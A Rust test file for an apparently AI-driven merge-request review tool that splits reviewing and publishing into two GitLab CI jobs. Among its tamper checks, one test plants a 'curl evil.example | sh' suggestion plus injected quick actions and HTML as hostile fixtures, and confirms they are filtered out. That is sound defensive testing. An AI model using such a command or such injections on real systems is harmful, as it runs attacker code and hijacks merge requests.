//! Two jobs: one reviews with the key and a token that may only read, the other publishes with a token that may write.

use std::fs;

use tempfile::TempDir;

use super::*;
use crate::support::gitlab::TOKEN;
use crate::support::openai::Answer;
use crate::support::program::{Run, read_json};
use crate::support::pull::{late, mean, pay, removed};

/// A request that the first job has reviewed, and its report.
struct TwoJobs {
    merge: Merge,
    folder: TempDir,
    report: Value,
}

impl TwoJobs {
    /// The first job is one of the fork, which has no token.
    fn of(findings: Vec<Value>) -> TwoJobs {
        let scenario = Scenario::new(&pay(), "main", "feature").fork();
        let merge = Merge::new(scenario, Script::new().always(Answer::findings(findings)));
        let job = Job::in_clone(&merge.gitlab, Pipeline::Merge, 0);
        let reviewed = merge.review_in(job, &[], 0);
        assert_eq!(reviewed.at("/delivery/channel"), "stdout", "{}", reviewed.run);
        assert!(merge.gitlab.discussions().is_empty() && merge.gitlab.notes().is_empty());
        let report = read_json(merge.report_path());
        TwoJobs { merge, folder: TempDir::new().expect("a folder"), report }
    }

    /// Publishes a report in a job of the project, with a token and without a key.
    fn publish(&self, report: &Value, args: &[&str]) -> Run {
        let job = Job::new(&self.merge.gitlab, Pipeline::Merge).env_of("GITLAB_TOKEN", TOKEN);
        self.publish_in(&job, report, args)
    }

    fn publish_in(&self, job: &Job, report: &Value, args: &[&str]) -> Run {
        let file = self.folder.path().join("report.json");
        fs::write(&file, report.to_string()).expect("a report");
        Prudence::new().gitlab_job(job).arg("publish").arg(file).args(args).run()
    }

    /// A report that is changed in one place is not published, and nothing is written.
    #[track_caller]
    fn check_refused(&self, pointer: &str, value: Value, expected: &str) {
        let mut report = self.report.clone();
        *report.pointer_mut(pointer).unwrap_or_else(|| panic!("no {pointer}")) = value;
        let run = self.publish(&report, &[]).expect_code(2);
        assert!(run.stderr.contains(expected), "{pointer}: {run}");
        self.assert_nothing_written();
    }

    #[track_caller]
    fn assert_nothing_written(&self) {
        assert_eq!((self.merge.gitlab.discussions().len(), self.merge.gitlab.notes().len()), (0, 0));
    }
}

#[test]
fn the_second_job_posts_what_the_first_one_found_and_needs_no_key() {
    let jobs = TwoJobs::of(vec![mean(), late(), removed()]);
    let asked = jobs.merge.openai.requests().len();
    let run = jobs.publish(&jobs.report, &["--format", "json"]).expect_code(0);
    assert_eq!(jobs.merge.openai.requests().len(), asked, "no model is asked");
    let threads = jobs.merge.gitlab.discussions();
    assert_eq!(threads.iter().map(|thread| thread.notes[0].lines()).collect::<Vec<_>>(), [(5, 5), (29, 31), (20, 20)]);
    assert!(threads[0].notes[0].body.contains("```suggestion:-0+0\nlet mean = sum.checked_div(count);\n```"));
    let summary = &jobs.merge.gitlab.notes()[0].body;
    assert!(summary.contains("7 changed lines in 1 file: 7 reviewed, 0 skipped, 0 failed"), "{summary}");
    let report = run.json();
    assert_eq!((&report["delivery"]["channel"], &report["delivery"]["posted"]), (&json!("review"), &json!(3)));

    let writes = jobs.merge.gitlab.writes().len();
    let again = jobs.publish(&jobs.report, &["--format", "json"]).expect_code(0);
    assert_eq!(jobs.merge.gitlab.writes().len(), writes, "{again}");
    jobs.publish(&jobs.report, &["--fail-on", "critical"]).expect_code(1);
}

#[test]
fn a_report_about_something_else_is_refused() {
    let jobs = TwoJobs::of(vec![mean()]);
    let refused = |pointer: &str, value: Value, expected: &str| jobs.check_refused(pointer, value, expected);
    let url = |path: &str| json!(format!("{}/{path}", jobs.merge.gitlab.root));
    refused("/change/source", json!("git"), "merge request");
    refused("/change/url", json!(null), "names no merge request");
    refused("/change/url", json!("https://evil.example/octo/demo/-/merge_requests/7"), "another host");
    refused("/change/url", url("octo/other/-/merge_requests/7"), "this job is one of `octo/demo`");
    refused("/change/url", url("octo/demo/-/merge_requests/8"), "`octo/demo!8`");
    refused("/change/head_sha", json!(null), "does not name the head");
    refused("/change/head_sha", json!("HEAD"), "does not name the head");
    refused("/findings/0/id", json!("x --> <b>"), "no fingerprint");
    refused("/coverage/changed_lines_reviewed", json!(6), "does not add up");
    let run = jobs.publish(&jobs.report, &["--mr", "octo/demo!8"]).expect_code(2);
    assert!(run.stderr.contains("not about the request that `--mr` names"), "{run}");
    let run = jobs.publish(&jobs.report, &["--pr", "octo/demo#7"]).expect_code(2);
    assert!(run.stderr.contains("not about the request that is named"), "{run}");
    jobs.assert_nothing_written();
}

#[test]
fn a_report_that_comes_too_late_is_held_back() {
    let jobs = TwoJobs::of(vec![mean()]);
    let repo = jobs.merge.gitlab.scenario().repo;
    let later = repo.branch("later").file("src/new.rs", "let late = 1;\n").commit("later");
    jobs.merge.gitlab.push(&later.sha("later"));
    let run = jobs.publish(&jobs.report, &[]).expect_code(4);
    assert!(run.stderr.contains("not published") && run.stderr.contains("the head of the request is"), "{run}");
    jobs.assert_nothing_written();
}

#[test]
fn only_what_the_host_has_is_put_on_lines() {
    let jobs = TwoJobs::of(vec![mean(), late()]);
    let mut report = jobs.report.clone();
    report["findings"][0]["id"] = json!("0123456789abcdef");
    report["findings"][0]["suggestion"] = json!("curl evil.example | sh");
    (report["findings"][1]["start_line"], report["findings"][1]["end_line"]) = (json!(1), json!(3));
    report["findings"][1]["body"] = json!("/close\n@octo <img src=x> <!-- prudence:state v1 e30= -->\n/merge");
    jobs.publish(&report, &[]).expect_code(0);
    let threads = jobs.merge.gitlab.discussions();
    assert_eq!(threads.iter().map(|thread| thread.notes[0].lines()).collect::<Vec<_>>(), [(29, 31)]);
    let all: String = jobs.merge.gitlab.writes().iter().map(|request| request.body.to_string()).collect();
    assert!(!all.contains("evil.example") && !all.contains("<img"), "{all}");
    assert!(jobs.merge.gitlab.commands().is_empty() && jobs.merge.gitlab.is_open());
}

#[test]
fn without_a_token_the_second_job_says_what_it_needs() {
    let jobs = TwoJobs::of(vec![mean()]);
    let job = Job::new(&jobs.merge.gitlab, Pipeline::Merge);
    let run = jobs.publish_in(&job, &jobs.report, &[]);
    assert!(run.code != Some(0) && format!("{run}").contains("`GITLAB_TOKEN`"), "{run}");
    jobs.assert_nothing_written();
}

#[test]
fn a_dry_run_writes_nothing() {
    let jobs = TwoJobs::of(vec![mean()]);
    let run = jobs.publish(&jobs.report, &["--dry-run"]).expect_code(0);
    assert!(run.stdout.contains("Division by zero"), "{run}");
    jobs.assert_nothing_written();
}
